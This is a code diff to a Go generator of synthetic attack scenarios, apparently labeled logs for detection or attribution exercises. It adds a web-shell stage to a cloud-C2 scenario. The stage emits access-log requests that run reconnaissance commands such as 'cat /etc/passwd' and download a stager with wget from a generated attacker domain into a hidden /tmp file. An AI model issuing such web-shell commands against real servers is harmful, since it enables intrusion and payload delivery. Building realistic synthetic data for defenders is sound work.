@@ -17,7 +17,8 @@ func buildTorBruteforce(g *gen) {
 	}
 }
 
-// 2. C2 over a cloud storage API plus a staging VPS with a fresh domain.
+// 2. C2 over a cloud storage API plus a staging VPS with a fresh domain,
+// after a web shell driven from another rented server.
 func buildCloudC2(g *gen) {
 	public, client := g.victim()
 	region := pick(g, []string{"eu-west-1", "us-east-1", "eu-central-1", "us-west-2"})
@@ -55,6 +56,18 @@ func buildCloudC2(g *gen) {
 	}
 	g.role(vps.String(), Perpetrator)
 	g.role(domain, Perpetrator)
+	// Initial access: a web shell on the victim's web server, driven from
+	// a second rented server of the operator's, before the stager ran.
+	op := g.hostIn(kindHosting)
+	g.whoisIP(op)
+	shell := "/wp-content/uploads/" + pick(g, []string{"thumb.php", "cache.php", "wp-info.php"}) + "?cmd="
+	opUA := pick(g, []string{"curl/7.88.1", "python-requests/2.31.0", pick(g, browserUAs)})
+	ts := g.t0.Add(-g.secs(1800, 7200))
+	for _, cmd := range []string{"id", "uname+-a", "cat+/etc/passwd", "ls+-la+/var/www/html", "ps+aux", "wget+-q+-O+/tmp/.u+https://" + domain + "/u"}[:g.between(3, 6)] {
+		g.access(ts, op.String(), "", "GET", shell+cmd, 200, g.between(40, 4000), "", opUA)
+		ts = ts.Add(g.secs(20, 240))
+	}
+	g.role(op.String(), Perpetrator)
 	// Tasking and exfiltration through the bucket, hours on end.
 	usedStorage := map[string]bool{}
 	for k := g.between(10, 25); k > 0; k-- {
@@ -80,8 +93,8 @@ func buildCloudC2(g *gen) {
 		}
 	}
 	g.role(storageHost, Platform)
-	g.campaign(append([]string{vps.String(), domain}, reached...)...)
-	g.note("The implant was staged from %s (%s, registered days before) and used the S3 bucket %s as its C2 channel.", vps, domain, bucket)
+	g.campaign(append([]string{vps.String(), domain, op.String()}, reached...)...)
+	g.note("The operator drove a web shell from %s, staged the implant from %s (%s, registered days before) and used the S3 bucket %s as its C2 channel.", op, vps, domain, bucket)
 	// Perimeter scanning seen by the same sensor.
 	for i := g.between(2, 5); i > 0; i-- {
 		h := g.scanner(0.75)
